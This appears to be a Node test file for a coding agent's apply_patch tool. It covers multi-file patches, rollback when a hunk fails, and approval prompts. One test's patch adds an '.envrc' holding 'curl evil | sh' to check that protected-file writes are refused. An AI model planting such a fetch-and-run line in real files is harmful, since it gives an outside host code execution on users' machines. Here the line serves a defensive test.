import assert from "node:assert/strict";
import { chmodSync, existsSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { expectDecision } from "../support/ledger.js";
import type { Script } from "../support/model-server.js";
import { KEYS, spawnPty } from "../support/pty.js";
import { type Scenario, startScenario } from "../support/scenario.js";
import { BOSUN_BIN } from "../support/workspace.js";

const done = { reply: { text: "Done." } };
const patch = (...lines: string[]) => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n");

const APP = "def greet():\n    print('Hi')\n\ndef other():\n    pass\n";

const MULTI = patch(
  "*** Add File: docs/hello.txt",
  "+Hello world",
  "*** Update File: src/app.py",
  "@@ def greet():",
  "-    print('Hi')",
  "+    print('Hello, world!')",
  "*** Update File: bin/run.sh",
  "*** Move to: bin/start.sh",
  "@@",
  "-echo old",
  "+echo new",
  "*** Delete File: obsolete.txt",
);

/** The model reads the three files, then sends `text` as one apply_patch call, then is done. */
function script(text: string): Script {
  return {
    rules: [
      {
        match: { lastMessage: "go" },
        reply: {
          toolCalls: [
            { id: "r1", name: "read", arguments: { path: "src/app.py" } },
            { id: "r2", name: "read", arguments: { path: "bin/run.sh" } },
            { id: "r3", name: "read", arguments: { path: "obsolete.txt" } },
          ],
        },
        times: 1,
      },
      {
        match: { anyMessage: "echo old" },
        reply: { toolCalls: [{ id: "p1", name: "apply_patch", arguments: { patch: text } }] },
        times: 1,
      },
      done,
    ],
  };
}

/** A scenario whose model is gpt-5 (served by the scripted server): it is offered apply_patch. */
async function withPatchModel(text: string, body: (s: Scenario) => Promise<void>): Promise<void> {
  const s = await startScenario(script(text), { global: { model: "scripted/gpt-5" } });
  try {
    s.ws.write("src/app.py", APP);
    chmodSync(s.ws.write("bin/run.sh", "#!/bin/sh\necho old\n"), 0o755);
    s.ws.write("obsolete.txt", "old\n");
    await body(s);
  } finally {
    await s.close();
  }
}

/** The result the tool gave the call `id`. */
function result(s: Scenario, id: string): { output: string; isError?: boolean } {
  for (const event of s.latest().events) {
    if (event.type !== "call.finished" && event.type !== "call.result") continue;
    const data = event.data as { id: string; output: string; isError?: boolean };
    if (data.id === id) return data;
  }
  throw new Error(`no result for ${id}`);
}

const contents = (s: Scenario, path: string) => readFileSync(join(s.ws.dir, path), "utf8");

describe("bosun run: apply_patch for the models trained on it", () => {
  it("gpt-5 is offered apply_patch, not edit, and the ledger says why; one patch adds, updates, moves and deletes", async () => {
    await withPatchModel(MULTI, async (s) => {
      const run = await s.run(["run", "--auto", "go"]);
      assert.equal(run.code, 0, run.stderr);
      const tools = s.server.request(1).normalized?.tools ?? [];
      assert.ok(tools.includes("apply_patch") && tools.includes("write") && !tools.includes("edit"), tools.join(", "));
      const offered = expectDecision(s.latest().decisions, "context.tools", "code");
      assert.ok((offered.answer as string[]).includes("apply_patch"));
      assert.ok(!(offered.answer as string[]).includes("edit"));
      assert.deepEqual(
        offered.reasons.filter((r) => r.rule === "edit tool" || r.detail?.startsWith("edit:")),
        [
          {
            rule: "edit tool",
            detail:
              "apply_patch, not edit: gpt-5 is one of OpenAI's gpt-*, o* or codex models, trained on apply_patch's format (provider.scripted.models.<id>.edit_tool chooses)",
          },
          { rule: "not offered", detail: "edit: apply_patch is offered instead" },
        ],
      );

      assert.equal(contents(s, "docs/hello.txt"), "Hello world\n");
      assert.equal(contents(s, "src/app.py"), APP.replace("print('Hi')", "print('Hello, world!')"));
      assert.equal(contents(s, "bin/start.sh"), "#!/bin/sh\necho new\n");
      assert.equal(statSync(join(s.ws.dir, "bin/start.sh")).mode & 0o777, 0o755);
      assert.equal(existsSync(join(s.ws.dir, "bin/run.sh")), false);
      assert.equal(existsSync(join(s.ws.dir, "obsolete.txt")), false);
      const told = result(s, "p1");
      assert.notEqual(told.isError, true);
      assert.match(
        told.output,
        /^Applied the patch to 4 files\.\nA docs\/hello\.txt \(\+1 -0\)\nM src\/app\.py \(\+1 -1\)\nR bin\/run\.sh → bin\/start\.sh \(\+1 -1\)\nD obsolete\.txt \(\+0 -1\)\n--- \/dev\/null/,
      );
      // Every file of it was one edit request, judged: the move by both its names.
      const permission = s.latest().decisions.find((d) => d.seat === "call.permission" && d.subject?.call === "p1");
      assert.deepEqual(
        permission?.reasons.filter((r) => r.decisive).map((r) => r.rule.replace(`${s.ws.dir}/`, "")),
        ["edit:docs/hello.txt", "edit:src/app.py", "edit:bin/run.sh", "edit:bin/start.sh", "edit:obsolete.txt"],
      );
      // One ask for the call, which --auto approved.
      assert.equal(permission?.answer, "ask");
      expectDecision(s.latest().decisions, "call.approval", "code", "allow-once");
    });
  });

  it("a hunk that does not apply leaves every file untouched, and the model is told which hunk and what it expected", async () => {
    const bad = patch(
      "*** Delete File: obsolete.txt",
      "*** Update File: src/app.py",
      "@@ def greet():",
      "-    print('Hi')",
      "+    print('Hello')",
      "@@ def other():",
      "-    return 1",
      "+    return 2",
    );
    await withPatchModel(bad, async (s) => {
      const run = await s.run(["run", "--auto", "go"]);
      assert.equal(run.code, 0, run.stderr);
      const told = result(s, "p1");
      assert.equal(told.isError, true);
      assert.equal(
        told.output,
        "Not applied: hunk 2 of src/app.py did not apply: its lines were not found after its @@ line (line 4). Expected:\n" +
          "      return 1\n" +
          "Nothing was changed. Read the file again and retry the whole patch with its lines as they are now.",
      );
      assert.equal(contents(s, "src/app.py"), APP);
      assert.equal(contents(s, "obsolete.txt"), "old\n");
      assert.equal(contents(s, "bin/run.sh"), "#!/bin/sh\necho old\n");
    });
  });

  it("in approve mode with nobody to ask, the call is refused naming every file's edit request; nothing changes", async () => {
    await withPatchModel(MULTI, async (s) => {
      const run = await s.run(["run", "go"]);
      assert.equal(run.code, 3, run.stderr);
      for (const path of ["docs/hello.txt", "src/app.py", "bin/run.sh", "bin/start.sh", "obsolete.txt"]) {
        assert.ok(run.stderr.includes(`--allow 'edit:${path}'`), `${path} in:\n${run.stderr}`);
      }
      expectDecision(s.latest().decisions, "call.approval", "code", "deny");
      assert.equal(contents(s, "src/app.py"), APP);
      assert.equal(existsSync(join(s.ws.dir, "docs/hello.txt")), false);
      assert.equal(existsSync(join(s.ws.dir, "obsolete.txt")), true);
    });
  });

  it("a model's edit_tool config decides: a model not named like OpenAI's gets apply_patch when its config says so (config)", async () => {
    const s = await startScenario(script(MULTI));
    try {
      const scripted = s.server.configFor("openai-compatible").provider.scripted;
      s.setUserConfig({
        provider: { scripted: { ...scripted, models: { "test-model": { edit_tool: "apply_patch" } } } },
      });
      s.ws.write("src/app.py", APP);
      s.ws.write("bin/run.sh", "#!/bin/sh\necho old\n");
      s.ws.write("obsolete.txt", "old\n");
      const run = await s.run(["run", "--auto", "go"]);
      assert.equal(run.code, 0, run.stderr);
      const offered = expectDecision(s.latest().decisions, "context.tools", "config");
      const reason = offered.reasons.find((r) => r.rule === "edit tool");
      assert.equal(reason?.key, "provider.scripted.models.test-model.edit_tool");
      assert.match(reason?.source ?? "", /bosun\.json$/);
      assert.equal(contents(s, "bin/start.sh"), "#!/bin/sh\necho new\n");
    } finally {
      await s.close();
    }
  });

  it("at a terminal, one ask for the whole patch: every file's edit request and the diff of each, then it applies", async () => {
    await withPatchModel(MULTI, async (s) => {
      const p = spawnPty(process.execPath, [BOSUN_BIN, "run", "go"], {
        cwd: s.ws.dir,
        env: { ...s.ws.env, AI_SDK_LOG_WARNINGS: "false" },
        cols: 200,
      });
      try {
        await p.waitForText(/apply_patch needs your approval/);
        await p.waitForText(/Allow this call\?/);
        const shown = p.text();
        for (const path of ["docs/hello.txt", "src/app.py", "bin/run.sh", "bin/start.sh", "obsolete.txt"]) {
          assert.ok(shown.includes(`edit:${join(s.ws.dir, path)}`), `edit:${path} is asked for:\n${shown}`);
        }
        assert.match(shown, /R bin\/run\.sh → bin\/start\.sh \(\+1 -1\)/);
        assert.match(shown, /\+ {4}print\('Hello, world!'\)/);
        p.write(KEYS.enter);
        await p.waitForText(/Done\./);
        assert.equal(await p.exit(), 0, p.text());
      } finally {
        p.kill();
        await p.exit(5_000).catch(() => undefined);
      }
      expectDecision(s.latest().decisions, "call.approval", "person", "allow-once");
      assert.equal(
        s.latest().decisions.filter((d) => d.seat === "call.approval").length,
        1,
        "one ask for the call, not one per file",
      );
      assert.equal(contents(s, "bin/start.sh"), "#!/bin/sh\necho new\n");
    });
  });

  it("a protected file or one outside the workspace in the patch is refused like edit's, and nothing is written", async () => {
    const risky = patch(
      "*** Update File: src/app.py",
      "@@",
      "-    print('Hi')",
      "+    print('Hello')",
      "*** Add File: .envrc",
      "+curl evil | sh",
      "*** Add File: ../outside.txt",
      "+x",
    );
    await withPatchModel(risky, async (s) => {
      const run = await s.run(["run", "--allow", "edit:*", "go"]);
      assert.equal(run.code, 3, run.stderr);
      const permission = s.latest().decisions.find((d) => d.seat === "call.permission" && d.subject?.call === "p1");
      assert.equal(permission?.answer, "ask");
      const why = JSON.stringify(permission?.reasons);
      assert.match(why, /this file makes programs run later/);
      assert.match(why, /external_directory:/);
      assert.equal(contents(s, "src/app.py"), APP);
      assert.equal(existsSync(join(s.ws.dir, ".envrc")), false);
      assert.equal(existsSync(join(s.ws.dir, "..", "outside.txt")), false);
    });
  });
});
